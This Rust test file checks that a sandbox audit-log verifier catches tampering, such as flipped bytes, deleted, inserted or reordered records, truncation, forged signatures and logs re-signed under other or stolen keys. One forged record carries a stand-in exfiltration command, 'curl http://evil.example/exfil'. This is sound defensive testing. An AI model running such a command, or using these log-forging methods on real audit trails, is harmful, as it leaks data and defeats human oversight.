//! The tamper suite, on a log captured from real processes by the real
//! binary (several key epochs, many checkpoints). Each attack is made on a
//! copy and must be caught by `sandbox-audit verify` with the right verdict
//! kind at the right seq, and nothing else.

#[path = "util/mod.rs"]
mod store_util;

use ed25519_dalek::SigningKey;
use serde_json::json;
use store_util::{Case, Forger, captured, forge, kind, no_keys, seq};

/// Verifies `lines` (with the trust root): exit 1 and exactly one verdict,
/// of `kind`. Returns its first seq and the whole report.
fn only_verdict(name: &str, lines: &[store_util::Rec], kind: &str) -> (u64, serde_json::Value) {
    let (code, vs, v) = Case::new(name, lines).verify(&[]);
    assert_eq!(code, 1, "{v:#}");
    assert_eq!(vs.len(), 1, "{v:#}");
    assert_eq!(vs[0].0, kind, "{v:#}");
    (vs[0].1, v)
}

/// The untouched copy verifies, with the trust root and the anchor.
#[test]
fn the_captured_log_is_intact() {
    let c = captured();
    let case = Case::new("intact", &c.lines);
    let anchor = case.file("anchor", &c.anchor);
    let (code, vs, v) = case.verify(&["--anchor", anchor.to_str().unwrap()]);
    assert_eq!((code, vs.len()), (0, 0), "{v:#}");
    let s = &v["summary"];
    assert!(
        s["epochs"].as_u64().unwrap() >= 3,
        "want several key epochs: {s}"
    );
    assert!(s["checkpoints"].as_u64().unwrap() >= 10, "{s}");
    assert_eq!(s["trust_root_checked"], true);
    assert_eq!(s["anchor_size"].as_u64(), Some(c.lines.len() as u64 - 1));
    // The log holds the kinds a capture must produce.
    for k in [
        "genesis",
        "start",
        "exec",
        "fork",
        "exit",
        "key_rotation",
        "checkpoint",
        "stop",
    ] {
        assert!(
            c.lines.iter().any(|m| kind(m) == k),
            "no `{k}` record in the capture"
        );
    }
}

/// Positions (record index, byte offset in its line) of one byte inside the
/// value of each top-level field of a record.
fn field_bytes(line: &str) -> Vec<(String, usize)> {
    let m: serde_json::Map<String, serde_json::Value> = serde_json::from_str(line).unwrap();
    m.keys()
        .map(|k| {
            let at = line.find(&format!("\"{k}\":")).unwrap() + k.len() + 3;
            // Past an opening quote or bracket, onto the first real byte.
            let skip = line[at..]
                .bytes()
                .take_while(|b| matches!(b, b'"' | b'[' | b'{'))
                .count();
            (k.clone(), at + skip + 1.min(line.len() - at - skip - 1))
        })
        .collect()
}

/// The one-byte change `changing_one_byte…` makes (always a different byte).
fn flip(b: u8) -> u8 {
    match b {
        b'1' => b'2',
        c if c.is_ascii_digit() => b'1',
        b'Z' => b'Y',
        _ => b'Z',
    }
}

/// The captured log as one segment's bytes.
fn segment_bytes(lines: &[store_util::Rec]) -> Vec<u8> {
    lines
        .iter()
        .flat_map(|m| (store_util::canonical_line(m) + "\n").into_bytes())
        .collect()
}

/// Every field of EVERY record (each kind, checkpoints that close a key
/// rotation and those that do not, wherever the capture's timing put
/// them): exactly one `modified` verdict, at that record. Checked with
/// audit-log's verify in-process (thousands of cases); a sample per kind
/// through the binary below.
#[test]
fn changing_one_byte_of_any_field_is_modified() {
    let c = captured();
    let log = segment_bytes(&c.lines);
    let opts = audit_log::verify::Options {
        pubkey: Some(audit_log::verify::parse_pubkey(&c.trust_root).unwrap()),
        ..Default::default()
    };
    // Both kinds of checkpoint are in the capture.
    let closes_rotation = |m: &store_util::Rec| m["epoch"] != m["latest_epoch"];
    let cps: Vec<_> = c.lines.iter().filter(|m| kind(m) == "checkpoint").collect();
    assert!(
        cps.iter().any(|m| closes_rotation(m)),
        "no rotation-closing checkpoint"
    );
    assert!(
        cps.iter().any(|m| !closes_rotation(m)),
        "no ordinary checkpoint"
    );
    let mut offset = 0;
    let mut tried = 0;
    for (i, m) in c.lines.iter().enumerate() {
        let line = store_util::canonical_line(m);
        // Every lifecycle record (where epochs and keys are), events by
        // the sample below: the whole log per case is slow.
        let lifecycle = !matches!(kind(m), "exec" | "fork" | "exit" | "open" | "connect");
        for (field, at) in field_bytes(&line).into_iter().filter(|_| lifecycle) {
            {
                let mut forged = log.clone();
                forged[offset + at] = flip(forged[offset + at]);
                let r = audit_log::verify::verify_segments(&[("seg", &forged)], &opts).unwrap();
                let vs: Vec<_> = r
                    .verdicts
                    .iter()
                    .map(|v| (v.kind.name(), v.first_seq))
                    .collect();
                assert_eq!(
                    vs,
                    vec![("modified", i as u64)],
                    "{} field {field} (byte {at}) of seq {i}:\n{}",
                    kind(m),
                    audit_log::verify::render_text(&r)
                );
                tried += 1;
            }
        }
        offset += line.len() + 1;
    }
    assert!(tried > 100, "only {tried} fields tried");

    // Through the binary: one record of each kind.
    for k in [
        "genesis",
        "start",
        "exec",
        "fork",
        "exit",
        "key_rotation",
        "checkpoint",
    ] {
        let i = c.lines.iter().rposition(|m| kind(m) == k).unwrap();
        let line = store_util::canonical_line(&c.lines[i]);
        for (field, at) in field_bytes(&line) {
            let mut bytes = line.clone().into_bytes();
            bytes[at] = flip(bytes[at]);
            let forged = String::from_utf8_lossy(&bytes).into_owned();
            let case = Case::new("byte", &c.lines);
            let seg = case.log.join(audit_log::segment::name(0, 0));
            let text = std::fs::read_to_string(&seg).unwrap();
            let mut lines: Vec<&str> = text.lines().collect();
            lines[i] = &forged;
            std::fs::write(&seg, lines.join("\n") + "\n").unwrap();
            let (code, vs, v) = case.verify(&[]);
            assert_eq!(
                (code, vs),
                (1, vec![("modified".to_string(), i as u64)]),
                "{k} field {field} of seq {i}: {v:#}"
            );
        }
    }
}

#[test]
fn deleting_a_middle_record_is_deleted() {
    let c = captured();
    let mut lines = c.lines.clone();
    let i = lines.len() / 2;
    lines.remove(i);
    let (code, vs, v) = Case::new("delete", &lines).verify(&[]);
    assert_eq!((code, vs), (1, vec![("deleted".into(), i as u64)]), "{v:#}");
}

#[test]
fn a_forged_record_with_recomputed_hashes_is_inserted() {
    let c = captured();
    let mut lines = c.lines.clone();
    // A fake `exec` between two real records, renumbered and re-linked with
    // every hash recomputed: the chain is consistent, the signed
    // checkpoints are not.
    let i = lines.len() / 2;
    let mut fake = lines.iter().find(|m| kind(m) == "exec").unwrap().clone();
    fake.insert("argv".into(), json!(["curl", "http://evil.example/exfil"]));
    lines.insert(i, fake);
    forge(&mut lines, i, true, &no_keys());
    let (first, v) = only_verdict("insert", &lines, "inserted");
    // Named from the last checkpoint that still verifies, which is before it.
    assert!(first <= i as u64, "{v:#}");
    assert!(
        v["verdicts"][0]["last_seq"].as_u64().unwrap() >= i as u64,
        "{v:#}"
    );
}

#[test]
fn swapping_two_records_is_reordered() {
    let c = captured();
    let mut lines = c.lines.clone();
    let i = lines.len() / 3;
    lines.swap(i, i + 1);
    let (code, vs, v) = Case::new("swap", &lines).verify(&[]);
    assert_eq!(
        (code, vs),
        (1, vec![("reordered".into(), i as u64)]),
        "{v:#}"
    );
}

#[test]
fn truncating_the_tail_is_caught_with_an_anchor_only() {
    let c = captured();
    let keep = c.lines.len() - 25;
    let case = Case::new("truncate", &c.lines[..keep]);
    // Cut at a record boundary the rest verifies, but the session lost its
    // `stop`: incomplete (exit 3). Only state held off-host proves records
    // were removed.
    let (code, vs, v) = case.verify(&[]);
    assert_eq!((code, vs.len()), (3, 0), "{v:#}");
    assert_eq!(v["status"], "incomplete", "{v:#}");
    let anchor = case.file("anchor", &c.anchor);
    let (code, vs, v) = case.verify(&["--anchor", anchor.to_str().unwrap()]);
    assert_eq!(
        (code, vs),
        (1, vec![("truncated-before-anchor".into(), keep as u64)]),
        "{v:#}"
    );
}

#[test]
fn a_whole_log_resigned_under_other_keys_is_caught_by_the_trust_root() {
    let c = captured();
    let mut lines = c.lines.clone();
    // The attacker drops an incriminating record and rebuilds the whole log
    // with a key chain of their own: genesis key, every rotation, every
    // checkpoint.
    let i = lines.iter().position(|m| kind(m) == "exec").unwrap();
    lines.remove(i);
    let theirs = |epoch: u64| SigningKey::from_bytes(&[epoch as u8 + 1; 32]);
    let f = Forger {
        checkpoint_key: &|e| Some(theirs(e)),
        chain_keys: Some(&theirs),
    };
    forge(&mut lines, 0, true, &f);
    let case = Case::new("replace", &lines);
    // Internally consistent: without the trust root it verifies…
    let (code, v) = store_util::verify_json(&case.log, &[]);
    assert_eq!((code, store_util::verdicts(&v).len()), (0, 0), "{v:#}");
    // …with it, every signature is under an untrusted key.
    let (code, vs, v) = case.verify(&[]);
    assert_eq!((code, vs), (1, vec![("bad-signature".into(), 0)]), "{v:#}");
}

#[test]
fn a_stolen_current_key_cannot_rewrite_an_older_epoch() {
    let c = captured();
    let (stolen_epoch, stolen) = &c.stolen;
    assert!(*stolen_epoch >= 2, "the capture must span several epochs");
    let mut lines = c.lines.clone();
    // Rewrite an event of an older epoch (before the last rotation: which
    // epochs hold events depends on how fast the capture started), then
    // re-link and re-sign every later checkpoint with the stolen newest key.
    let rot = lines
        .iter()
        .rposition(|m| kind(m) == "key_rotation")
        .unwrap();
    let i = lines[..rot]
        .iter()
        .rposition(|m| kind(m) == "exec" || kind(m) == "open")
        .expect("an exec or open before the last key rotation");
    lines[i].insert("argv".into(), json!(["true"]));
    lines[i].insert("path".into(), json!("/dev/null"));
    let f = Forger {
        checkpoint_key: &|_| Some(stolen.clone()),
        chain_keys: None,
    };
    forge(&mut lines, i, false, &f);
    let (first, v) = only_verdict("stolen", &lines, "wrong-epoch-key");
    // The first checkpoint after the rewrite is the first one reported.
    let first_cp = lines
        .iter()
        .skip(i)
        .find(|m| kind(m) == "checkpoint")
        .map(seq)
        .unwrap();
    assert!(
        first <= i as u64 && v["verdicts"][0]["last_seq"].as_u64().unwrap() >= first_cp,
        "{v:#}"
    );
}

#[test]
fn an_altered_signature_is_bad_signature() {
    let c = captured();
    let mut lines = c.lines.clone();
    // The final checkpoint: a forger who re-signs it (and fixes its hash)
    // leaves no later checkpoint to contradict the rehash; only the
    // signature can tell. (Earlier ones are also caught by the next
    // checkpoint's root, as `modified`.)
    let i = lines.iter().rposition(|m| kind(m) == "checkpoint").unwrap();
    let note = lines[i]["note"].as_str().unwrap().to_string();
    // Swap two base64 characters of the signature, then fix up the hashes.
    let sig_at = note.rfind(' ').unwrap() + 10;
    let mut b = note.into_bytes();
    b.swap(sig_at, sig_at + 1);
    if b[sig_at] == b[sig_at + 1] {
        b[sig_at] = if b[sig_at] == b'A' { b'B' } else { b'A' };
    }
    lines[i].insert("note".into(), json!(String::from_utf8(b).unwrap()));
    forge(&mut lines, i, false, &no_keys());
    let (first, v) = only_verdict("badsig", &lines, "bad-signature");
    // From the last checkpoint that still vouches (the one before) to this one.
    let before = lines[..i]
        .iter()
        .rposition(|m| kind(m) == "checkpoint")
        .unwrap();
    assert_eq!(first, before as u64, "{v:#}");
    assert_eq!(
        v["verdicts"][0]["last_seq"].as_u64(),
        Some(i as u64),
        "{v:#}"
    );
}

#[test]
fn garbage_and_torn_bytes_are_reported_not_panicked_on() {
    let c = captured();
    let case = Case::new("garbage", &c.lines);
    let seg = case.log.join(audit_log::segment::name(0, 0));
    let mut text = std::fs::read(&seg).unwrap();
    text.extend_from_slice(b"{\"half a rec");
    std::fs::write(&seg, &text).unwrap();
    let (code, vs, v) = case.verify(&[]);
    assert_eq!(
        (code, vs),
        (1, vec![("torn-tail".into(), c.lines.len() as u64)]),
        "{v:#}"
    );
    // Unreadable input files are a clear error (exit 2), not a panic.
    let out = store_util::sa(&["verify", "/nonexistent/dir"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("/nonexistent/dir"));
    let bad_key = case.file("bad.vkey", "not a key");
    let out = store_util::sa(&[
        "verify",
        case.log.to_str().unwrap(),
        "--pubkey",
        bad_key.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("bad.vkey"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// tests/verify_log.py: an independent verifier in Python's standard library.
fn python_verify(log: &std::path::Path) -> std::process::Output {
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/verify_log.py");
    std::process::Command::new("python3")
        .arg(script)
        .arg(log)
        .output()
        .expect("run python3 (needed by the test suite)")
}

#[test]
fn the_python_verifier_agrees_on_a_real_log() {
    let c = captured();
    let case = Case::new("python", &c.lines);
    let out = python_verify(&case.log);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let checkpoints = c.lines.iter().filter(|m| kind(m) == "checkpoint").count();
    assert!(
        stdout.contains(&format!(
            "ok: {} records chained, {checkpoints} checkpoint roots recomputed",
            c.lines.len()
        )),
        "{stdout}"
    );
    // And it is not a rubber stamp: a rehashed edit breaks its root check,
    // a plain edit its hash check.
    let mut lines = c.lines.clone();
    let i = lines.len() / 2;
    lines[i].insert("time_ns".into(), json!(1));
    let out = python_verify(&Case::new("python-bad", &lines).log);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains(&format!("seq {i}: hash does not match"))
    );
    forge(&mut lines, i, false, &no_keys());
    let out = python_verify(&Case::new("python-rehashed", &lines).log);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("checkpoint size/root do not match"));
}
